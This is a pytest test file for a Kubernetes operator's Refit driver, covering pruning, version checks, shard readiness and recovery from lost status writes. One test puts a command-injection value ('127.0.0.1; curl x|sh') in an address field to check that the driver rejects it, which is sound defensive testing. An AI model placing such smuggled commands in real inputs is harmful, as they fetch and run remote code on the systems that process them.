"""The Refit driver's pure choices (issue 13 point 4 and the readiness half of point 5): which
Refits pruning deletes, the version a new Refit must be above, the shard entries the patch that
ends a refit writes; and a Refit whose version is not newer fails at once without any agent call."""

from __future__ import annotations

import asyncio
from pathlib import Path
from typing import Any, cast

import pytest
import yaml

from helpers import kube_fakes
from megafleet import agent_client, kube, refit_driver
from megafleet import settings as operator_settings
from megafleet.objects import Object

ROOT = Path(__file__).resolve().parents[2]


def refit(name: str, version: int, phase: str | None, created: str, fleet: str = "tiny") -> Object:
    body: Object = {
        "apiVersion": "megafleet.dev/v1alpha1",
        "kind": "Refit",
        "metadata": {"name": name, "namespace": "rl", "creationTimestamp": created, "generation": 1},
        "spec": {
            "fleetRef": {"name": fleet},
            "version": version,
            "source": {"rendezvous": {"address": "10.0.0.1", "port": 29600}},
        },
    }
    if phase is not None:
        body["status"] = {"phase": phase}
    return body


T = "2026-01-01T00:00:"


@pytest.mark.parametrize(
    ("refits", "limit", "expected"),
    [
        pytest.param(
            [refit(f"r{v}", v, "Succeeded", f"{T}{v:02d}Z") for v in range(1, 6)],
            2,
            ["r1", "r2", "r3"],
            id="oldest-first",
        ),
        pytest.param(
            [refit("r1", 1, "Succeeded", f"{T}01Z"), refit("r2", 2, "Running", f"{T}02Z")],
            0,
            ["r1"],
            id="never-running",
        ),
        pytest.param(
            [refit("r1", 1, "Pending", f"{T}01Z"), refit("r2", 2, "Failed", f"{T}02Z")],
            0,
            [],
            id="never-pending-or-newest",
        ),
        pytest.param(
            # a stale Refit refused as VersionNotNewer is the newest: sorting by version alone would
            # prune it first, under the eyes of the trainer still watching it
            [
                refit("r5", 5, "Succeeded", f"{T}01Z"),
                refit("r6", 6, "Succeeded", f"{T}02Z"),
                refit("stale", 3, "Failed", f"{T}03Z"),
            ],
            1,
            ["r5"],
            id="newest-by-creation-and-highest-version-kept",
        ),
        pytest.param(
            [refit(f"r{v}", v, "Succeeded", f"{T}00Z") for v in (3, 1, 2)], 1, ["r1", "r2"], id="same-second-by-version"
        ),
        pytest.param([], 3, [], id="none"),
    ],
)
def test_pruning_deletes_only_old_finished_refits(refits: list[Object], limit: int, expected: list[str]) -> None:
    assert refit_driver.prunable(refits, limit) == expected


def test_the_version_to_beat_is_the_current_one_else_what_every_shard_serves() -> None:
    assert refit_driver.current_version({"refit": {"currentVersion": 4}, "weightVersion": 4}) == 4
    assert refit_driver.current_version({"weightVersion": 0}) == 0  # served from the checkpoint
    assert refit_driver.current_version({"refit": {"active": "x"}}) is None  # no weights anywhere yet


def test_a_successful_refit_marks_its_reporting_members_ready_at_the_new_version() -> None:
    shards = [
        {"index": 0, "phase": "Refitting", "weightVersion": 3, "lastError": "suspended"},
        {"index": 1, "phase": "Ready", "weightVersion": 3},
        {"index": 2, "phase": "Starting"},
    ]
    settled = refit_driver.settled_shards(shards, [0, 1], 4)
    assert settled == [
        {"index": 0, "phase": "Ready", "weightVersion": 4},
        {"index": 1, "phase": "Ready", "weightVersion": 4},
        {"index": 2, "phase": "Starting"},
    ]
    assert shards[0]["phase"] == "Refitting"  # the input is not changed


def test_a_successful_refit_settles_readiness_and_weights_current_in_the_same_patch() -> None:
    before: Object = {
        "shards": [
            {"index": 0, "phase": "Refitting", "weightVersion": 3},
            {"index": 1, "phase": "Refitting", "weightVersion": 3},
        ],
        "readyReplicas": 0,
        "weightVersion": 3,
        "conditions": [
            {"type": "Ready", "status": "False", "reason": "ShardsNotReady", "lastTransitionTime": "t0"},
            {"type": "WeightsCurrent", "status": "False", "reason": "Refitting", "lastTransitionTime": "t0"},
        ],
    }
    settled = refit_driver.settled_status(before, [0, 1], 4, replicas=2, generation=7, now="t1")
    assert settled["readyReplicas"] == 2 and settled["weightVersion"] == 4
    found = {c["type"]: c for c in settled["conditions"]}
    assert (found["Ready"]["status"], found["Ready"]["reason"], found["Ready"]["lastTransitionTime"]) == (
        "True",
        "AllShardsReady",
        "t1",
    )
    assert (found["WeightsCurrent"]["status"], found["Degraded"]["status"]) == ("True", "False")
    # One member not settled: not Ready, Degraded, not current (the Ready shard's version is reported,
    # as the reconcile reports it).
    partial = refit_driver.settled_status(before, [0], 4, replicas=2, generation=7, now="t1")
    found = {c["type"]: c for c in partial["conditions"]}
    assert partial["readyReplicas"] == 1 and partial["weightVersion"] == 4
    assert (found["Ready"]["status"], found["Degraded"]["status"], found["WeightsCurrent"]["status"]) == (
        "False",
        "True",
        "False",
    )


class NoAgents:
    """An agent client that fails the test on any call: a refused Refit reaches no agent."""

    def __getattr__(self, name: str) -> Any:
        raise AssertionError(f"the driver called the agents ({name}) for a refused Refit")


def test_a_refit_not_above_the_current_version_fails_at_once_and_reaches_no_agent() -> None:
    fleet: Object = yaml.safe_load((ROOT / "examples" / "tiny-cpu.yaml").read_text())
    fleet["metadata"].update(namespace="rl", uid="uid-1")
    fleet["status"] = {"refit": {"currentVersion": 5}, "weightVersion": 5}
    stale = refit("tiny-v5", 5, None, f"{T}01Z")
    api = kube_fakes.Api(fleet, stale)

    asyncio.run(
        refit_driver.advance(
            cast(kube.Api, api),
            cast(agent_client.AgentClient, NoAgents()),
            stale,
            settings=operator_settings.RefitSettings(),
        )
    )

    status = api.objects[("Refit", "rl", "tiny-v5")]["status"]
    assert status["phase"] == "Failed"
    [condition] = status["conditions"]
    assert (condition["type"], condition["reason"]) == ("Failed", refit_driver.VERSION_NOT_NEWER)
    assert "version 5" in condition["message"] and "current version 5" in condition["message"]
    assert api.objects[("MegatronGeneration", "rl", "tiny")]["status"] == fleet["status"]  # lock untouched
    assert api.writes["status MegatronGeneration"] == 0


def test_a_refit_admitted_by_an_older_crd_with_a_rendezvous_address_not_a_host_fails_naming_it() -> None:
    """``'127.0.0.1; curl x|sh'`` is refused at admission (issue 16); an object that predates the
    rule fails once, naming the field, instead of crashing the driver at every poll."""
    hostile = refit("tiny-v6", 6, None, f"{T}01Z")
    hostile["spec"]["source"]["rendezvous"]["address"] = "127.0.0.1; curl x|sh"
    api = kube_fakes.Api(hostile)

    asyncio.run(
        refit_driver.advance(
            cast(kube.Api, api),
            cast(agent_client.AgentClient, NoAgents()),
            hostile,
            settings=operator_settings.RefitSettings(),
        )
    )

    status = api.objects[("Refit", "rl", "tiny-v6")]["status"]
    assert status["phase"] == "Failed" and "spec.source.rendezvous.address" in status["message"]


class LostRefitWrite(kube_fakes.Api):
    """An API server that goes away right before the Refit's final status write (a control-plane
    restart in the drill)."""

    async def patch_status(self, kind: str, name: str, namespace: str, status: Object) -> Object:
        if kind == "Refit" and status.get("phase") in ("Succeeded", "Failed"):
            raise ConnectionError("server disconnected")
        return await super().patch_status(kind, name, namespace, status)


def test_a_lost_final_write_leaves_the_refit_unfinished_never_the_fleet_locked() -> None:
    """The 12-restart drill: the Refit was written Succeeded, then the fleet's write was lost, and the
    fleet stayed locked by a finished Refit (nothing polls it): no shard was placed again. Now the
    fleet is released first; the Refit stays Running, so its poll finishes it."""
    fleet: Object = yaml.safe_load((ROOT / "examples" / "tiny-cpu.yaml").read_text())
    fleet["metadata"].update(namespace="rl", uid="uid-1")
    fleet["status"] = {"refit": {"active": "tiny-v2", "currentVersion": 1}, "shards": [{"index": 0}]}
    running = refit("tiny-v2", 2, "Running", f"{T}01Z")
    api = LostRefitWrite(fleet, running)

    with pytest.raises(ConnectionError):
        asyncio.run(
            refit_driver._finish(cast(kube.Api, api), running, fleet, "Succeeded", "done", version=2, serving=[0])
        )

    fleet_refit = api.objects[("MegatronGeneration", "rl", "tiny")]["status"]["refit"]
    assert (fleet_refit.get("active"), fleet_refit["currentVersion"]) == (None, 2)
    assert api.objects[("Refit", "rl", "tiny-v2")]["status"]["phase"] == "Running"


def test_a_finish_retried_after_a_later_refit_ended_never_moves_the_version_back() -> None:
    """The fleet write of Refit v2 landed, its own final write was lost, and Refit v3 ran and ended
    before v2's poll finished it again: v2's retry leaves the fleet at version 3."""
    fleet: Object = yaml.safe_load((ROOT / "examples" / "tiny-cpu.yaml").read_text())
    fleet["metadata"].update(namespace="rl", uid="uid-1")
    fleet["status"] = {"refit": {"active": None, "currentVersion": 3}, "shards": [{"index": 0, "weightVersion": 3}]}
    retried = refit("tiny-v2", 2, "Running", f"{T}01Z")
    api = kube_fakes.Api(fleet, retried)

    asyncio.run(refit_driver._finish(cast(kube.Api, api), retried, fleet, "Succeeded", "done", version=2, serving=[0]))

    status = api.objects[("MegatronGeneration", "rl", "tiny")]["status"]
    assert status["refit"]["currentVersion"] == 3 and status["shards"][0]["weightVersion"] == 3
    assert api.objects[("Refit", "rl", "tiny-v2")]["status"]["phase"] == "Succeeded"
